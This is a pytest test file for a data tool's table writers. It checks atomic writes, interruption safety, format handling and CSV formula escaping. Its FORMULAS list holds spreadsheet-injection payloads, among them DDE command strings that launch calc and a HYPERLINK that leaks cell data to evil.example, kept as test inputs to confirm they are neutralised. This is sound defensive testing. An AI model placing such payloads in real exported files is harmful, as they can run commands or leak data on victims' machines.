"""Tables are written whole or not at all, in bounded memory, and harmless when a spreadsheet opens them."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import resource
import signal
import stat
import subprocess
import sys
import textwrap
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from leadloop.errors import DataError
from leadloop.ingest import writers
from leadloop.ingest.tables import open_table
from leadloop.ingest.writers import escape_formulas, open_writer

FORMATS = ["csv", "jsonl", "parquet"]
FIRST = pl.DataFrame({"name": ["Ada", None], "score": [71.5, 3.0]})
SECOND = pl.DataFrame({"name": ['Zoë, the "great"\nof Köln'], "score": [None]}, schema=FIRST.schema)


def write(path: Path, frames: Iterable[pl.DataFrame]) -> None:
    with open_writer(path) as out:
        for frame in frames:
            out.write(frame)


def read(path: Path) -> pl.DataFrame:
    return pl.concat([batch.cells for batch, _ in open_table(path).batches()])


@pytest.mark.parametrize("ending", [*FORMATS, "csv.gz", "jsonl.gz"])
def test_batches_are_written_one_after_the_other(tmp_path: Path, ending: str):
    path = tmp_path / f"scored.{ending}"
    with open_writer(path) as out:
        out.write(FIRST)
        out.write(SECOND)
    expected = pl.concat([FIRST, SECOND])
    assert_frame_equal(read(path), expected.cast(pl.String) if "csv" in ending else expected)
    assert os.listdir(tmp_path) == [path.name]


@pytest.mark.parametrize("format", FORMATS)
def test_columns_in_another_order_find_their_place_and_others_are_refused(tmp_path: Path, format: str):
    path = tmp_path / f"scored.{format}"
    with open_writer(path) as out:
        out.write(FIRST)
        out.write(FIRST.select("score", "name"))
    assert read(path).columns == ["name", "score"]
    with pytest.raises(ValueError, match="the columns were"):
        write(path, [FIRST, FIRST.select("name")])
    assert read(path).height == 4


def test_a_column_that_begins_with_unknowns_takes_the_type_that_comes_later(tmp_path: Path, monkeypatch):
    monkeypatch.setattr(writers, "PART_BYTES", 1)
    path = tmp_path / "scored.parquet"
    with open_writer(path) as out:
        out.write(pl.DataFrame({"x": [None, None]}))
        out.write(pl.DataFrame({"x": ["late"]}))
        out.write(pl.DataFrame({"x": [None]}))
    assert read(path)["x"].to_list() == [None, None, "late", None]


def test_a_parquet_column_that_changes_its_type_is_refused(tmp_path: Path):
    with pytest.raises(ValueError, match='column "x" was Int64 and is now String'):
        write(tmp_path / "scored.parquet", [pl.DataFrame({"x": [1]}), pl.DataFrame({"x": ["a"]})])
    assert os.listdir(tmp_path) == []


def test_many_parts_become_one_parquet_file_in_order(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(writers, "PART_BYTES", 5_000)
    path = tmp_path / "scored.parquet"
    with open_writer(path) as out:
        for start in range(0, 20_000, 500):
            out.write(pl.DataFrame({"x": range(start, start + 500)}))
    assert pl.read_parquet(path)["x"].to_list() == list(range(20_000))


@pytest.mark.parametrize("format", FORMATS)
def test_an_empty_table_is_a_table(tmp_path: Path, format: str):
    path = tmp_path / f"scored.{format}"
    with open_writer(path) as out:
        out.write(FIRST.clear())
    if format == "csv":
        assert path.read_bytes() == b"name,score\n"
    elif format == "jsonl":
        assert path.read_bytes() == b""
    else:
        assert pl.read_parquet(path).schema == FIRST.schema


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("error", [ValueError, KeyboardInterrupt])
def test_an_error_leaves_the_old_file_as_it_was_and_nothing_beside_it(
    tmp_path: Path, format: str, error: type[BaseException]
):
    path = tmp_path / f"scored.{format}"
    path.write_bytes(b"the old one")

    def rows() -> Iterator[pl.DataFrame]:
        yield FIRST
        raise error

    with pytest.raises(error):
        write(path, rows())
    assert path.read_bytes() == b"the old one"
    assert os.listdir(tmp_path) == [path.name]


@pytest.mark.skipif(os.name != "posix", reason="sends a signal as Ctrl-C does")
@pytest.mark.parametrize("format", FORMATS)
def test_control_c_leaves_nothing_half_written(tmp_path: Path, format: str):
    story = """
        import sys
        import polars as pl
        from leadloop.ingest.writers import open_writer
        with open_writer(sys.argv[1]) as out:
            for number in range(10**9):
                out.write(pl.DataFrame({"x": [number] * 1000}))
                if number == 20:
                    print("writing", flush=True)
    """
    path = tmp_path / f"scored.{format}"
    with subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(story), str(path)],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=os.environ | {"PYTHONPATH": os.pathsep.join(sys.path), "TMPDIR": str(tmp_path), "POLARS_MAX_THREADS": "1"},
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"writing\n"
        assert any(name.endswith(".part") for name in os.listdir(tmp_path))
        process.send_signal(signal.SIGINT)
    assert process.returncode != 0
    assert os.listdir(tmp_path) == []


@pytest.mark.skipif(os.name != "posix", reason="rights are those of Unix")
def test_a_new_file_has_the_rights_of_any_new_file_and_an_old_one_keeps_its_own(tmp_path: Path):
    path, plain = tmp_path / "scored.csv", tmp_path / "plain"
    plain.touch()
    for expected in (stat.S_IMODE(plain.stat().st_mode), 0o640):
        with open_writer(path) as out:
            out.write(FIRST)
        assert stat.S_IMODE(path.stat().st_mode) == expected
        path.chmod(0o640)


@pytest.mark.skipif(os.name != "posix", reason="links are those of Unix")
def test_a_link_stays_a_link_to_the_new_file(tmp_path: Path):
    (tmp_path / "real.csv").touch()
    (tmp_path / "link.csv").symlink_to("real.csv")
    with open_writer(tmp_path / "link.csv") as out:
        out.write(FIRST)
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_bytes().startswith(b"name,score")


@pytest.mark.skipif(os.name != "posix", reason="limits are those of Unix")
@pytest.mark.parametrize("format", FORMATS)
def test_a_full_disk_is_said_and_leaves_nothing_behind(tmp_path: Path, format: str):
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    numbers = pl.DataFrame({"x": list(os.urandom(200_000))})
    resource.setrlimit(resource.RLIMIT_FSIZE, (50_000, before[1]))
    try:
        with pytest.raises(DataError, match="destination  cannot be written"):
            write(tmp_path / f"scored.{format}", [numbers])
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize(
    ("name", "how", "says"),
    [
        ("nowhere/scored.csv", {}, "cannot be written: No such file or directory; make the folder first"),
        ("", {"format": "csv"}, "is a folder; name a file in it"),
        ("scored.xlsx", {}, r"its ending does not tell the format; end it in \.csv, \.jsonl or \.parquet"),
        ("scored", {}, "its ending does not tell the format"),
        ("scored.csv", {"format": "excel"}, '"excel" is not a format we write'),
        ("scored.parquet.gz", {}, "Parquet is compressed already; leave .gz out"),
    ],
)
def test_a_place_that_cannot_be_written_is_refused_with_advice(
    tmp_path: Path, name: str, how: dict[str, str], says: str
):
    with pytest.raises(DataError, match=says), open_writer(tmp_path / name, **how):
        raise AssertionError("nothing may be written")


def test_a_name_without_ending_is_written_in_the_format_named(tmp_path: Path):
    with open_writer(tmp_path / "scored", format="jsonl") as out:
        out.write(FIRST)
    assert json.loads((tmp_path / "scored").read_text().splitlines()[0]) == {"name": "Ada", "score": 71.5}


@pytest.mark.parametrize("format", [None, "jsonl", "parquet"])
def test_standard_output_is_written(monkeypatch: pytest.MonkeyPatch, format: str | None):
    out_stream = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(out_stream))
    with open_writer("-", format=format) as out:
        out.write(FIRST)
    data = out_stream.getvalue()
    found = pl.concat([batch.cells for batch, _ in open_table(io.BytesIO(data)).batches()])
    assert found["name"].to_list() == ["Ada", None]


def test_compressed_output_does_not_depend_on_the_time(tmp_path: Path):
    for name in ("one.csv.gz", "two.csv.gz"):
        with open_writer(tmp_path / name) as out:
            out.write(FIRST)
    assert (tmp_path / "one.csv.gz").read_bytes() == (tmp_path / "two.csv.gz").read_bytes()
    assert gzip.decompress((tmp_path / "one.csv.gz").read_bytes()).startswith(b"name,score\n")


def test_lists_become_text_in_csv_and_stay_lists_elsewhere(tmp_path: Path):
    leads = pl.DataFrame(
        {
            "reasons": [["visits up", None, "=1+1"], [], None],
            "points": [[1.5, 2.0], [3.0], None],
            "nested": [[{"a": 1}], [], None],
            "place": [{"city": "Rome"}, None, {"city": None}],
            "raw": [b"\xff", None, b""],
        }
    )
    for name in ("scored.csv", "scored.parquet"):
        with open_writer(tmp_path / name) as out:
            out.write(leads)
    assert pl.read_parquet(tmp_path / "scored.parquet").equals(leads)
    with (tmp_path / "scored.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    assert rows[1] == ["visits up; =1+1", "1.5; 2.0", '[{"a": 1}]', '{"city": "Rome"}', "/w=="]
    assert rows[3] == ["", "", "", '{"city": null}', ""]


@pytest.mark.parametrize("format", FORMATS)
def test_every_type_of_column_can_be_written(tmp_path: Path, format: str):
    day = timedelta(days=1, hours=2)
    leads = pl.DataFrame(
        {
            "took": [day],
            "all took": [[day]],
            "raw": [b"\xff"],
            "all raw": [[b"\xff"]],
            "deep raw": [{"a": b"\xff"}],
            "price": [Decimal("1.50")],
            "at": [datetime(2024, 5, 1, 10, tzinfo=UTC)],
            "pair": pl.Series([[1, 2]], dtype=pl.Array(pl.Int64, 2)),
            "nothing": [None],
        }
    )
    path = tmp_path / f"scored.{format}"
    write(path, [leads])
    if format == "csv":
        assert read(path).row(0) == (
            "P1DT2H", '["1 day, 2:00:00"]', "/w==", '["/w=="]', '{"a": "/w=="}', "1.50",
            "2024-05-01T10:00:00.000000+0000", "[1, 2]", None,
        )  # fmt: skip
    elif format == "jsonl":
        assert json.loads(path.read_text()) == {
            "took": "PT93600S", "all took": ["PT93600S"], "raw": "/w==", "all raw": '["/w=="]',
            "deep raw": '{"a": "/w=="}', "price": "1.50", "at": "2024-05-01T10:00:00+00:00", "pair": [1, 2],
            "nothing": None,
        }  # fmt: skip
    else:
        assert pl.read_parquet(path).equals(leads)


FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=IMPORTXML(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\ttext",
    "\rtext", " =1+1", "  +1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "-1+1", "+49 30 123456", "--1", "+-1", "-", "=", "@", "-1e5+cmd", "1\t=2"[1:], "-5%-1", "-2+3+cmd|' /C calc'!D2",
    "=5", "@ada", "-x", "+x", "=A1", '="x"', "=-1", "+=1",
]  # fmt: skip
NUMBERS = ["-5", "+1.5", "-1,234.50", "-.5", "+1e5", "-1.5E-10", "-3%", "+4930123456", "0", "1.5"]
HARMLESS = ["call back", "a=b", "ada@example.com", "1-2", "", "'=1+1", "2024-05-01", "x\t=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_made_inert(formula: str):
    assert escape_formulas(pl.DataFrame({"a": [formula], "b": ["x"]})).row(0) == ("'" + formula, "x")


@pytest.mark.parametrize("text", NUMBERS + HARMLESS)
def test_numbers_and_plain_text_stay_as_they_are(text: str):
    assert escape_formulas(pl.DataFrame({"a": [text, None]}))["a"].to_list() == [text, None]


@given(st.text(st.characters(exclude_categories=["Cs"])), st.sampled_from([pl.String, pl.Categorical]))
def test_no_text_cell_that_is_not_a_number_begins_like_a_formula(text: str, dtype: type[pl.DataType]):
    [written] = escape_formulas(pl.DataFrame({"a": [text]}, schema={"a": dtype}))["a"].to_list()
    assert written in (text, "'" + text)
    if written == text and text.lstrip()[:1] in tuple("=+-@＝＋－＠"):
        assert not text.lstrip() or float(text.strip().rstrip("%").replace(",", "")) is not None


def test_formulas_are_escaped_in_names_too_and_can_be_kept(tmp_path: Path):
    leads = pl.DataFrame({"=name": ["=1+1"], "loss": [-5]})
    for formulas, expected in (("escape", b"'=name,loss\n'=1+1,-5\n"), ("keep", b"=name,loss\n=1+1,-5\n")):
        with open_writer(tmp_path / "scored.csv", formulas=formulas) as out:
            out.write(leads)
        assert (tmp_path / "scored.csv").read_bytes() == expected


@pytest.mark.parametrize("ending", ["jsonl", "parquet"])
def test_formulas_are_nobodys_business_outside_csv(tmp_path: Path, ending: str):
    with open_writer(tmp_path / f"scored.{ending}") as out:
        out.write(pl.DataFrame({"a": ["=1+1"]}))
    assert read(tmp_path / f"scored.{ending}")["a"].to_list() == ["=1+1"]


CELLS = st.one_of(st.none(), st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1))


@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=8))
def test_what_is_written_as_csv_is_read_back_unchanged(rows: list[tuple[str | None, str | None]]):
    frame = pl.DataFrame(
        {"a": [row[0] for row in rows], "b": [row[1] for row in rows]}, schema=dict.fromkeys("ab", pl.String)
    )
    kept = io.BytesIO()
    for part in _written(frame, kept):
        assert part is not None
    kept.seek(0)
    found = [
        row
        for batch, rejects in open_table(kept, delimiter=",", encoding="utf-8").batches()
        for row in batch.cells.rows()
    ]
    assert found == rows


def _written(frame: pl.DataFrame, kept: io.BytesIO) -> Iterator[pl.DataFrame]:
    writer = writers._CsvWriter(kept, "keep")
    for start in range(0, frame.height, 3):
        writer.write(frame[start : start + 3])
        yield frame
